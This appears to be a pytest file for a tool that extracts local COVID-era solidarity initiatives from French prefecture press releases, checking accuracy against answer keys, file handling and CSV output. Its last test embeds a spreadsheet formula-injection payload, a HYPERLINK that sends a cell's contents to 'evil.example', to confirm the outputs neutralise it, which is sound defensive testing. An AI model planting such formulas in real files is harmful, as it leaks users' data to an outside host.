"""A communiqué read into candidate initiatives, as an editor dropping it would see them.

Accuracy is measured against answer keys (tests/data/communiques/*.attendu.csv; the seed
communiqué's is data/initiatives.csv): an initiative is right when a candidate that comes from
its sentence has the expected theme and the expected commune, or the expected area when the key
names one. Run with `-s` to see the figures per communiqué.
"""

from __future__ import annotations

import csv
import io
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from carto.config import PROJECT_ROOT
from carto.extract import DocumentError, Extraction, extract_candidates, read_document
from carto.extract.documents import MAX_BYTES
from carto.extract.output import already_published, candidates_csv, review_csv
from carto.gazetteer import Gazetteer, load_gazetteer
from carto.intake.pipeline import load
from carto.text import fold, fold_key
from carto.zones import resolve_zone

HERE = PROJECT_ROOT / "tests" / "data" / "communiques"
SEED = PROJECT_ROOT / "tests" / "data" / "communiques" / "communique-2020-04-06-pas-de-calais.txt"
SEED_ROWS = PROJECT_ROOT / "data" / "initiatives.csv"
OWN_PDF = HERE / "communique-2020-04-20.pdf"
OWN_TEXT = HERE / "communique-2020-04-20.txt"
OWN_HTML = HERE / "communique-2020-05-04.html"

sys.path.insert(0, str(HERE))
from build import communique_pdf  # noqa: E402


@pytest.fixture(scope="module")
def gaz() -> Gazetteer:
    return load_gazetteer("62")


@dataclass(frozen=True)
class Expected:
    key: str
    commune: str
    zone: str
    theme: str


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def seed_key() -> list[Expected]:
    rows = {r["id"]: r for r in _read_csv(SEED_ROWS)}
    return [
        Expected(
            k["cle"], rows[k["id"]]["commune"], rows[k["id"]]["zone"], rows[k["id"]]["categorie"]
        )
        for k in _read_csv(HERE / "communique-2020-04-06.attendu.csv")
    ]


def own_key(name: str) -> list[Expected]:
    return [
        Expected(r["cle"], r["commune"], r["zone"], r["categorie"])
        for r in _read_csv(HERE / f"{name}.attendu.csv")
    ]


def seed_text() -> str:
    if not SEED.is_file():
        pytest.skip(f"communiqué d'origine absent : {SEED}")
    return SEED.read_text(encoding="utf-8")


def score(extraction: Extraction, key: list[Expected], gaz: Gazetteer, label: str) -> int:
    """Right answers; prints the figure and each miss."""
    right = 0
    misses: list[str] = []
    for expected in key:
        mine = [
            c
            for c in extraction.candidates
            if fold(expected.key) in fold(c.phrase) or fold(expected.key) in fold(c.description)
        ]
        ok = any(
            _same_place(c.commune, c.zone, expected, gaz) and c.categorie == expected.theme
            for c in mine
        )
        right += ok
        if not ok:
            got = [(c.commune, c.zone, c.categorie) for c in mine] or "aucune candidate"
            misses.append(f"  manqué « {expected.key} » : attendu {expected}, obtenu {got}")
    print(f"\n{label} : {right}/{len(key)} justes ({len(extraction.candidates)} candidates)")
    print("\n".join(misses))
    return right


def _same_place(commune: str, zone: str, expected: Expected, gaz: Gazetteer) -> bool:
    if expected.zone:
        return bool(zone) and resolve_zone(zone, gaz).key == resolve_zone(expected.zone, gaz).key
    return not zone and fold_key(commune) == fold_key(expected.commune)


def extract(data: bytes, name: str, gaz: Gazetteer) -> Extraction:
    return extract_candidates(read_document(data, name), gaz)


# -- accuracy


def test_seed_communique_as_text(gaz: Gazetteer) -> None:
    extraction = extract(seed_text().encode(), "communique.txt", gaz)
    assert score(extraction, seed_key(), gaz, "communiqué du 6 avril 2020 (.txt)") >= 15
    assert extraction.published is not None and extraction.published.isoformat() == "2020-04-06"


def test_seed_communique_as_pdf(gaz: Gazetteer) -> None:
    pdf = communique_pdf(seed_text())
    extraction = extract(pdf, "communique-2020-04-06.pdf", gaz)
    assert score(extraction, seed_key(), gaz, "communiqué du 6 avril 2020 (.pdf)") >= 15
    assert all(c.date_publication == "2020-04-06" for c in extraction.candidates)
    assert all("6 avril 2020" in c.source for c in extraction.candidates)
    # The PDF's link lines repeating Indelab's addresses give nobody else its contacts.
    assert [c.nom for c in extraction.candidates if "indelab" in c.site_web] == ["Indelab"]
    assert any(
        c.nom.startswith("Brioche Pasquier, Daunat, Haagen-Dasz") for c in extraction.candidates
    )


def test_own_pdf_communique(gaz: Gazetteer) -> None:
    extraction = extract(OWN_PDF.read_bytes(), OWN_PDF.name, gaz)
    key = own_key("communique-2020-04-20")
    assert score(extraction, key, gaz, "communiqué du 20 avril 2020 (.pdf)") >= 0.9 * len(key)


def test_own_html_communique(gaz: Gazetteer) -> None:
    extraction = extract(OWN_HTML.read_bytes(), OWN_HTML.name, gaz)
    key = own_key("communique-2020-05-04")
    assert score(extraction, key, gaz, "communiqué du 4 mai 2020 (.html)") >= 0.9 * len(key)


def test_pdf_is_rebuilt_from_its_text() -> None:
    # The PDF kept in the repository is the one build.py makes from the text next to it.
    from pypdf import PdfReader

    text = " ".join(" ".join(p.extract_text() or "" for p in PdfReader(OWN_PDF).pages).split())
    assert "Le Petit Atelier imprime des visières" in text


def _docx(text: str) -> bytes:
    from docx import Document

    document = Document()
    for paragraph in text.split("\n\n"):
        paragraph = " ".join(paragraph.split())
        if paragraph.startswith("- "):
            document.add_heading(paragraph.strip("- :"), level=2)
        elif paragraph:
            document.add_paragraph(paragraph)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _odt(text: str) -> bytes:
    from odf.opendocument import OpenDocumentText
    from odf.text import H, P

    document = OpenDocumentText()
    for paragraph in text.split("\n\n"):
        paragraph = " ".join(paragraph.split())
        if paragraph.startswith("- "):
            document.text.addElement(H(outlinelevel=2, text=paragraph.strip("- :")))
        elif paragraph:
            document.text.addElement(P(text=paragraph))
    buffer = io.BytesIO()
    document.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(("suffix", "make"), [(".docx", _docx), (".odt", _odt)])
def test_word_and_opendocument(gaz: Gazetteer, suffix: str, make: object) -> None:
    data = make(OWN_TEXT.read_text(encoding="utf-8"))  # type: ignore[operator]
    extraction = extract(data, f"communique{suffix}", gaz)
    key = own_key("communique-2020-04-20")
    assert score(extraction, key, gaz, f"communiqué du 20 avril 2020 ({suffix})") >= 0.9 * len(key)
    # Headings came from the styles: every candidate's theme is certain.
    assert not any(c.theme_incertain for c in extraction.candidates)


def test_own_text_communique(gaz: Gazetteer) -> None:
    extraction = extract(OWN_TEXT.read_bytes(), OWN_TEXT.name, gaz)
    key = own_key("communique-2020-04-20")
    assert score(extraction, key, gaz, "communiqué du 20 avril 2020 (.txt)") >= 0.9 * len(key)


# -- rules


def test_never_the_dateline_the_prefecture_or_lille(gaz: Gazetteer) -> None:
    for path in (OWN_PDF, OWN_HTML):
        extraction = extract(path.read_bytes(), path.name, gaz)
        for candidate in extraction.candidates:
            assert gaz.by_insee(candidate.code_insee) is not None  # in the département
            assert "Lille" not in (candidate.commune, candidate.zone)
            assert "avril 2020" not in candidate.phrase and "mai 2020" not in candidate.phrase
            assert "Buisson" not in candidate.description
            assert "prefet" not in fold(candidate.phrase)
            assert candidate.telephone != "03 21 21 20 00"  # the press office's number
    # « Les chauffeurs en route vers Lille y trouvent aussi un repas chaud » is no initiative.
    html = extract(OWN_HTML.read_bytes(), OWN_HTML.name, gaz)
    assert not any("vers Lille" in c.phrase for c in html.candidates)
    pdf = extract(OWN_PDF.read_bytes(), OWN_PDF.name, gaz)
    assert not any("semblables" in c.phrase for c in pdf.candidates)


def test_page_furniture_is_dropped(gaz: Gazetteer) -> None:
    html = read_document(OWN_HTML.read_bytes(), OWN_HTML.name).text
    for furniture in (
        "Démarches administratives",
        "Aller au contenu",
        "Partager",
        "Mentions légales",
    ):
        assert furniture not in html
    pdf = read_document(OWN_PDF.read_bytes(), OWN_PDF.name)
    assert "Ferdinand Buisson" not in pdf.text
    assert not any(b.text.strip() in ("1/2", "2/2") for b in pdf.blocks)
    seed = read_document(seed_text().encode(), "seed.txt")
    # The link lines repeating an address already given, and the stray « ² ».
    assert not any(
        b.text in ("http://www.indelab.fr/", "mailto:contact@indelab.fr", "²") for b in seed.blocks
    )


def test_contacts_titles_and_former_names(gaz: Gazetteer) -> None:
    seed = {c.nom: c for c in extract(seed_text().encode(), "seed.txt", gaz).candidates}
    assert seed["Indelab"].site_web == "https://www.indelab.fr/"
    assert seed["Indelab"].email == "contact@indelab.fr"
    guines = next(c for c in seed.values() if c.commune == "Guînes")
    assert guines.telephone == "03 21 85 53 70"
    assert guines.site_web.startswith("http://www.mairie-guines.fr")
    panier = next(c for c in seed.values() if "Petit Panier" in c.nom)
    assert panier.commune == "Auchel"  # the commune its own page names
    html = {c.commune: c for c in extract(OWN_HTML.read_bytes(), OWN_HTML.name, gaz).candidates}
    assert html["Marck"].email == "ecoute@mairie-marck.fr"
    assert html["Marck"].telephone == "03 21 99 00 11"
    assert "Isbergues" in html  # « basée à Berguette », merged into Isbergues
    pdf = {c.commune: c for c in extract(OWN_PDF.read_bytes(), OWN_PDF.name, gaz).candidates}
    assert "Hesdin-la-Forêt" in pdf and "Saint-Martin-lez-Tatinghem" in pdf
    assert pdf["Hesdin-la-Forêt"].email == "contact@fildentraide-hesdin.fr"


def test_without_headings_the_theme_is_guessed_and_marked(gaz: Gazetteer) -> None:
    text = (
        "Arras, le 11 mai 2020\n\nInitiatives de la semaine\n\n"
        "À Lumbres, l'association Les Amis du Bourg livre des repas à domicile aux personnes "
        "confinées.\n\nLes routiers trouvent des douches et un repas chaud à l'aire de "
        "Wardrecques.\n"
    )
    extraction = extract(text.encode(), "sans-titres.txt", gaz)
    themes = {c.commune: (c.categorie, c.theme_incertain) for c in extraction.candidates}
    assert themes == {"Lumbres": ("confines", True), "Wardrecques": ("routiers", True)}
    assert all(c.confiance < 0.9 for c in extraction.candidates)


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        (b"", "vide.pdf", "est vide"),
        (b"   \n", "vide.txt", "est vide"),
        (b"bonjour", "communique.rtf", "non pris en charge"),
        (b"%PDF-1.4 garbage", "abime.pdf", "illisible ou abîmé"),
        (b"PK\x03\x04 not a zip", "abime.docx", "n'est pas un document"),
        (b"not a zip", "abime.odt", "n'est pas un document"),
        (b"<html><body><nav>Accueil</nav></body></html>", "vide.html", "Aucun texte"),
    ],
)
def test_bad_files_get_a_french_message(data: bytes, name: str, message: str) -> None:
    with pytest.raises(DocumentError, match=message):
        read_document(data, name)


def test_huge_file_is_refused(tmp_path: Path) -> None:
    from carto.extract import read_path

    path = tmp_path / "enorme.txt"
    with path.open("wb") as handle:
        handle.truncate(MAX_BYTES + 1)
    with pytest.raises(DocumentError, match="ne peut pas dépasser 20 Mo"):
        read_path(path)


def test_a_whole_book_is_not_a_communique() -> None:
    text = ("À Lens, une association livre des repas aux personnes confinées.\n\n" * 6000).encode()
    with pytest.raises(DocumentError, match="trop pour un communiqué"):
        read_document(text, "livre.txt")


# -- output


def test_candidates_csv_imports_without_any_warning(gaz: Gazetteer, tmp_path: Path) -> None:
    extraction = extract(seed_text().encode(), "seed.txt", gaz)
    path = tmp_path / "candidates.csv"
    path.write_text(candidates_csv(extraction.candidates), encoding="utf-8")
    loaded = load(path, gazetteer=gaz)
    assert loaded.ok and not loaded.issues, [str(i) for i in loaded.issues]
    assert len(loaded.table) == 16
    zones = dict(zip(loaded.table["nom"], loaded.table["zone_label"], strict=True))
    assert zones["Eurotunnel"] == "Arrondissement de Calais"
    review = list(csv.DictReader(io.StringIO(review_csv(extraction.candidates))))
    assert review[0]["phrase_source"].startswith("Au titre de ces initiatives")
    assert 0 < float(review[0]["confiance"]) <= 1


def test_already_on_the_map(gaz: Gazetteer) -> None:
    extraction = extract(seed_text().encode(), "seed.txt", gaz)
    published = _read_csv(SEED_ROWS)
    found = dict(
        zip(
            (c.nom for c in extraction.candidates),
            already_published([c.row() for c in extraction.candidates], published),
            strict=True,
        )
    )
    assert found["Indelab"] == "Indelab : visières imprimées en 3D"
    assert found["Balsan"] == "Balsan : masques en tissu lavables"
    assert found["TERREOS"] == "Tereos : production de gel hydro-alcoolique"  # misspelt
    # Same name elsewhere is not the same initiative.
    moved = [{**extraction.candidates[2].row(), "code_insee": "62041", "commune": "Arras"}]
    assert already_published(moved, published) == [""]


def test_outputs_opened_in_a_spreadsheet_never_hold_a_formula(
    gaz: Gazetteer, tmp_path: Path
) -> None:
    """An outsider's communiqué whose sentences start like formulas: the candidates CSV and the
    review CSV an editor opens in a spreadsheet hold them as text, and the import gives the
    sentences back as written."""
    text = (
        'Solidarité\n\n=HYPERLINK("http://evil.example/?x="&A1;"Cliquez") À Lens, '
        "l'association Les Amis distribue des repas aux personnes isolées.\n\n"
        "@SUM(1+1) À Arras, le club de couture fabrique des masques pour les soignants.\n"
    )
    extraction = extract(text.encode(), "hostile.txt", gaz)
    assert len(extraction.candidates) == 2
    for written in (candidates_csv(extraction.candidates), review_csv(extraction.candidates)):
        cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]
        formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not formulas, formulas
    path = tmp_path / "candidates.csv"
    path.write_text(candidates_csv(extraction.candidates), encoding="utf-8")
    loaded = load(path, gazetteer=gaz)
    assert sorted(d[:10] for d in loaded.table["description"]) == ["=HYPERLINK", "@SUM(1+1) "]
